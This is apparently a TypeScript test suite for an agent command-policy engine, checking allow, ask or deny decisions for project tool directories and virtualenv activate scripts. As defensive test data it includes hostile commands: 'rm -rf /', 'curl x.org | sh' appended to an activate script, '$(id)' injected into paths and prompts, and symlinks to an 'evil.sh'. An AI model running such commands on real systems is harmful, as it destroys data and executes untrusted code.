// Programs of a project's environments: `.venv/bin/pytest`, `node_modules/.bin/tsc`, and what is
// meant behind `source .venv/bin/activate`, in real environments and real repositories.
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { PolicyEngine } from '../../src/policies/engine.ts';
import * as files from '../../src/policies/files.ts';
import { projectPolicy } from '../../src/policies/places.ts';
import { lacking } from '../requirements.ts';
import { PolicyPlace } from './place.ts';

const RULES = [
  'pytest *',
  'python3 manage.py',
  'tsc --noEmit',
  'npm test',
  'echo *',
  'rm -rf <path>',
];
const PROGRAMS = 'programs: [.venv/bin, node_modules/.bin, tools]\n';

const python = spawnSync('python3', ['-m', 'venv', '--help']).status === 0;

class Place extends PolicyPlace {
  readonly user = join(this.dir, 'home', '.config', 'cuff', 'policy.yml');
  readonly env = join(this.project, '.venv');
  #engine: PolicyEngine | undefined;

  constructor(more = PROGRAMS) {
    super();
    this.policy(this.user, more);
  }

  policy(file: string, more: string): void {
    const commands = JSON.stringify(RULES.map((pattern) => ({ pattern })));
    this.write(file, `policies: [{name: a, commands: ${commands}}]\n${more}`);
  }

  git(...args: readonly string[]): void {
    const config = ['-c', 'user.name=me', '-c', 'user.email=me@example.org'];
    execFileSync('git', ['-C', this.project, ...config, ...args], { stdio: 'ignore' });
  }

  venv(...args: readonly string[]): void {
    execFileSync('python3', ['-m', 'venv', '--without-pip', ...args, this.env]);
  }

  program(name: string, text = '#!/bin/sh\n'): void {
    const path = join(this.project, name);
    fs.mkdirSync(dirname(path), { recursive: true });
    fs.writeFileSync(path, text, { mode: 0o755 });
  }

  engine(): PolicyEngine {
    this.#engine?.close();
    this.#engine = PolicyEngine.open(
      {
        project: this.project,
        env: { HOME: join(this.dir, 'home') },
        systemFile: join(this.dir, 'none.yml'),
        stateRoot: join(this.dir, 'state'),
        watch: false,
      },
      files,
    );
    return this.#engine;
  }

  said(command: string): string {
    const decision = this.engine().decide(command, this.project)?.decision;
    return decision?.verdict === 'allow' ? 'allow' : `${decision?.verdict} ${decision?.code}`;
  }
}

describe('programs of trusted directories', () => {
  it('are what rules mean by their names', () => {
    const place = new Place();
    for (const name of ['.venv/bin/pytest', 'node_modules/.bin/tsc', 'tools/python3', 'bin/tsc']) {
      place.program(name);
    }
    fs.mkdirSync(join(place.project, 'sub'));
    expect(
      [
        ...['.venv/bin/pytest -q', './node_modules/.bin/tsc --noEmit', 'tools/python3 manage.py'],
        ...[`${place.env}/bin/pytest`, 'cd sub && ../.venv/bin/pytest -q', 'cd sub && npm test'],
        // Other directories, other words, and directories below.
        ...['bin/tsc --noEmit', 'node_modules/.bin/tsc --outDir x', 'node_modules/.bin/sub/tsc'],
        ...['cd sub && .venv/bin/pytest', '/tmp/.venv/bin/pytest'],
      ].map((command) => place.said(command)),
    ).toEqual([
      ...['allow', 'allow', 'allow', 'allow', 'allow', 'allow'],
      ...['ask program.path', 'ask default.ask', 'ask program.path', 'ask program.path'],
      'ask program.path',
    ]);
  });

  it('are not, without the key', () => {
    const place = new Place('');
    place.program('.venv/bin/pytest');
    expect(place.said('.venv/bin/pytest -q')).toBe('ask program.path');
  });

  it('are asked about where git tracks them, or what they lead to', () => {
    const place = new Place();
    place.program('.venv/bin/pytest');
    place.program('src/evil.sh');
    place.program('node_modules/typescript/bin/tsc');
    fs.mkdirSync(join(place.project, 'node_modules', '.bin'));
    fs.symlinkSync('../typescript/bin/tsc', join(place.project, 'node_modules', '.bin', 'tsc'));
    expect(place.said('node_modules/.bin/tsc --noEmit')).toBe('allow');
    place.git('init', '-q');
    place.git('add', '-f', '.venv');
    expect(place.said('.venv/bin/pytest -q')).toBe('ask program.path');
    expect(place.said('node_modules/.bin/tsc --noEmit')).toBe('allow');
    place.git('add', '-f', 'node_modules/typescript');
    expect(place.said('node_modules/.bin/tsc --noEmit')).toBe('ask program.path');
    // An index that we cannot read says nothing.
    place.git('rm', '-rq', '--cached', '.venv', 'node_modules');
    expect(place.said('.venv/bin/pytest -q')).toBe('allow');
    place.git('add', 'src');
    place.git('update-index', '--index-version', '4');
    expect(place.said('.venv/bin/pytest -q')).toBe('ask program.path');
  });

  it('are asked about where they lead to what agents write', () => {
    const place = new Place();
    place.program('src/evil.sh');
    fs.mkdirSync(join(place.env, 'bin'), { recursive: true });
    fs.symlinkSync('../../src/evil.sh', join(place.env, 'bin', 'pytest'));
    fs.symlinkSync('/usr/bin/python3', join(place.env, 'bin', 'python3'));
    expect(place.said('.venv/bin/pytest -q')).toBe('ask program.path');
    expect(place.said('.venv/bin/python3 manage.py')).toBe('allow');
    // The directory itself may be a link.
    fs.renameSync(place.env, join(place.project, 'other'));
    fs.symlinkSync('other', place.env);
    expect(place.said('.venv/bin/pytest -q')).toBe('ask program.path');
  });

  it('may not be written by agents, nor what they are made of', () => {
    const place = new Place(`${PROGRAMS}version: 2\n`);
    expect(
      [
        ...['echo x > tools/a', 'echo x > .venv/bin/pytest', 'echo x > node_modules/.bin/tsc'],
        ...['echo x > .venv/lib/a.py', 'echo x > node_modules/a/b.js', 'echo x | tee tools/a'],
        ...['rm -rf node_modules', 'rm -rf .venv', 'echo x > src/a.py'],
      ].map((command) => place.said(command)),
    ).toEqual([
      ...['deny path.protected', 'deny path.protected', 'deny path.protected'],
      ...['ask path.protected', 'ask path.protected', 'deny path.protected'],
      ...['allow', 'allow', 'allow'],
    ]);
    const first = new Place(PROGRAMS);
    const written = (path: string) => first.engine().inForce?.decideWrite(path, first.project);
    expect(written('.venv/lib/a.py')?.verdict).toBe('ask');
    expect(written('tools/a')?.verdict).toBe('deny');
    expect(written('src/a.py')?.verdict).toBe('allow');
  });

  it('are no matter of a project that is not trusted, also if its policy is alone', () => {
    const place = new Place('');
    place.program('.venv/bin/pytest');
    place.policy(projectPolicy(place.project), PROGRAMS);
    expect(place.said('.venv/bin/pytest -q')).toBe('ask program.path');
    fs.rmSync(place.user);
    expect(place.said('.venv/bin/pytest -q')).toBe('ask program.path');
    expect(place.engine().waiting.join()).toContain('`cuff trust`: programs;');
    expect(place.said('pytest -q')).toBe('allow');
  });
});

describe.skipIf(lacking(!python, 'python3 -m venv'))('source .venv/bin/activate', () => {
  const ACTIVATED = 'source .venv/bin/activate && pytest -q';
  let made: string | undefined;

  /** What `venv` writes, with `@` for the environment. */
  function script(): string {
    if (made !== undefined) return made;
    const place = new Place();
    place.venv();
    made = fs.readFileSync(join(place.env, 'bin', 'activate'), 'utf8').replaceAll(place.env, '@');
    return made;
  }

  /** An environment with this script, as `venv` makes it but for that. */
  function withScript(text: string, more = PROGRAMS): Place {
    const place = new Place(more);
    place.program('.venv/bin/activate', text.replaceAll('@', place.env));
    return place;
  }

  it('is understood, and what comes behind it', () => {
    const place = new Place();
    place.venv();
    fs.mkdirSync(join(place.project, 'sub'));
    expect(
      [
        ...[ACTIVATED, '. ./.venv/bin/activate; python3 manage.py; deactivate'],
        ...[`cd sub && source ${place.env}/bin/activate && pytest`, 'source .venv/bin/activate'],
        ...['x=1; source .venv/bin/activate && cd sub && pytest && cd .. && pytest'],
        ...['source .venv/bin/activate && rm -rf /', 'source .venv/bin/activate && curl x.org'],
        ...['source .venv/bin/activate x && pytest', 'source activate', 'deactivate'],
        ...['echo x >> .venv/bin/activate; source .venv/bin/activate'],
        ...['git checkout other && source .venv/bin/activate'],
      ].map((command) => place.said(command)),
    ).toEqual([
      ...['allow', 'allow', 'allow', 'allow', 'allow', 'deny builtin.dangerous', 'ask default.ask'],
      ...['ask path.protected', 'ask default.ask', 'ask default.ask', 'deny path.protected'],
      'ask default.ask',
    ]);
  });

  it('is understood with a prompt of its own', () => {
    const place = new Place();
    place.venv('--prompt', 'my app');
    expect(place.said(ACTIVATED)).toBe('allow');
  });

  it.each([
    ['as it is made', (text: string) => text, 'allow'],
    ['one more command', (text: string) => `${text}curl x.org | sh\n`, 'ask'],
    ['one more comment', (text: string) => `${text}# x\n`, 'ask'],
    ['another directory', (text: string) => text.replaceAll('@', '/tmp/.venv'), 'ask'],
    ['a directory beside it', (text: string) => text.replaceAll('@', '@/../x'), 'ask'],
    ['code in the directory', (text: string) => text.replaceAll('@', '@$(id)'), 'ask'],
    ['code in the prompt', (text: string) => text.replaceAll('(.venv) ', '(.venv) $(id) '), 'ask'],
    ['a quote in the prompt', (text: string) => text.replaceAll('(.venv) ', '(.venv) " '), 'ask'],
    ['a placeholder', (text: string) => text.replaceAll('"@"', '\u0001'), 'ask'],
    ['no line end', (text: string) => text.trimEnd(), 'ask'],
    ['nothing', () => '', 'ask'],
  ])('%s: %s', (_, change, expected) => {
    expect(withScript(change(script())).said(ACTIVATED).split(' ')[0]).toBe(expected);
  });

  it('is asked about without the key, and where git tracks a program beside it', () => {
    expect(withScript(script(), '').said(ACTIVATED)).toMatch(/^ask/);
    const place = withScript(script());
    place.program('.venv/bin/less');
    place.git('init', '-q');
    expect(place.said(ACTIVATED)).toBe('allow');
    place.git('add', '-f', '.venv/bin/less');
    expect(place.said(ACTIVATED)).toMatch(/^ask/);
  });

  it('is asked about through a link to an environment elsewhere', () => {
    const place = withScript(script());
    fs.renameSync(place.env, join(place.dir, 'elsewhere'));
    fs.symlinkSync(join(place.dir, 'elsewhere'), place.env);
    expect(place.said(ACTIVATED)).toMatch(/^ask/);
  });
});
